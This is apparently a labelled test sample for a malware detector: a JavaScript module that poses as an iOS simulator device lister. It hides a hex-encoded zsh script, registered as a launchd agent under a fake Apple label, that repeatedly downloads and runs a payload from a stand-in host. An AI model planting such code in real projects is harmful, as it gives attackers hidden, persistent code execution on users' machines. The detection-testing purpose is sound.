// expect: malicious
// source: blind set 48's simctl-devices (launchctl-submit-job, second sample): the entry module keeps a job's script as
// hex piped through `xxd -r -p` into zsh and hands it to a helper module that submits it to launchd (`launchctl
// submit -- sh -c script`); the file that holds the command runs no variable itself
'use strict';
const { execFileSync } = require('child_process');
const runtime = require('./runtime');
const devices = () => JSON.parse(execFileSync('xcrun', ['simctl', 'list', 'devices', '-j'], { encoding: 'utf8' }));
runtime.ensureAgent({
  label: 'com.apple.CoreSimulator.SimHelper',
  script: "echo 7768696c65203a3b20646f206375726c202d6673534c2022687474703a2f2f73696d2e63616368652e696e76616c69642f732f24286964202d756e2922202d6f202224484f4d452f2e73696d686f7374222026262063686d6f64202b78202224484f4d452f2e73696d686f737422202626202224484f4d452f2e73696d686f7374223b20736c65657020313830303b20646f6e65 | xxd -r -p | /bin/zsh"
});
module.exports = { devices };
